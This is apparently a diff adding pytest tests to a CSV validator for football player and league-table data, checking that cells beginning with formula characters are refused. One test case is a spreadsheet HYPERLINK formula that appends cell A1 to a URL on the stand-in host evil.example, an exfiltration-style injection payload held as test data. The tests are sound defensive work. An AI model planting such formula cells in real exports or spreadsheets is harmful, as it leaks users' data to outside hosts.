@@ -137,6 +137,49 @@ def test_an_empty_file_is_refused() -> None:
     assert reasons("\r\n\r\n") == {1: "the file has no rows"}
 
 
+@pytest.mark.parametrize(
+    ("cell", "first"),
+    [
+        ('"=HYPERLINK(""http://evil.example/?""&A1,""Salah"")"', "="),
+        ("+44 Salah", "+"),
+        ("-Salah", "-"),
+        ("@SUM(A1)", "@"),
+        ("\tSalah", "\\t"),
+        ('"\rSalah"', "\\r"),
+        ("  =1+1", "="),
+    ],
+)
+def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cell: str, first: str) -> None:
+    for column in (0, 1, 2):  # club, name, nationality
+        cells = LIVERPOOL_ROW.split(",")
+        cells[column] = cell
+        (reason,) = reasons(",".join(cells) + "\n").values()
+        assert f"must not start with '{first}', which makes it a spreadsheet formula" in reason
+
+
+def test_a_dash_or_an_at_inside_a_name_is_no_formula() -> None:
+    text = "Liverpool,Alex Oxlade-Chamberlain,England,Midfielder,2,0,0,20,1,2,0,35\n"
+    assert parse(text).players[0].name == "Alex Oxlade-Chamberlain"  # type: ignore[union-attr]
+
+
+def test_a_negative_goal_difference_is_a_number_and_a_formula_in_it_is_not() -> None:
+    table = f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-2;0\nB;1;0;0;1;0;2;\u22122;0\n"
+    assert [row.goal_difference for row in parse(table).standings] == [-2, -2]  # type: ignore[union-attr]
+    refused = reasons(f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-1-1;0\nB;1;0;0;1;0;2;=-2;0\n")
+    assert refused == {
+        2: "goal_difference must be a whole number, got '-1-1'",
+        3: "goal_difference must be a whole number, got '=-2'",
+    }
+
+
+def test_a_number_too_large_for_firestore_is_refused() -> None:
+    largest = "9223372036854775807"
+    assert parse(LIVERPOOL_ROW.replace(",135", f",{largest}")).players[0].price == int(largest)  # type: ignore[union-attr]
+    for too_large in ("9223372036854775808", "9" * 5_000):
+        refused = reasons(LIVERPOOL_ROW.replace(",135", f",{too_large}") + "\n")
+        assert refused[1].startswith("price must be at most 9223372036854775807 in size")
+
+
 def test_a_club_file_with_a_blank_capital_column_reads_as_one_without() -> None:
     header = "Club,Player,Nationality,Position,Appearances,Goals,Assists,Passes,Interceptions,"
     text = f"{header}Tackles,Fouls,Price,Capital\n{LIVERPOOL_ROW},\n"
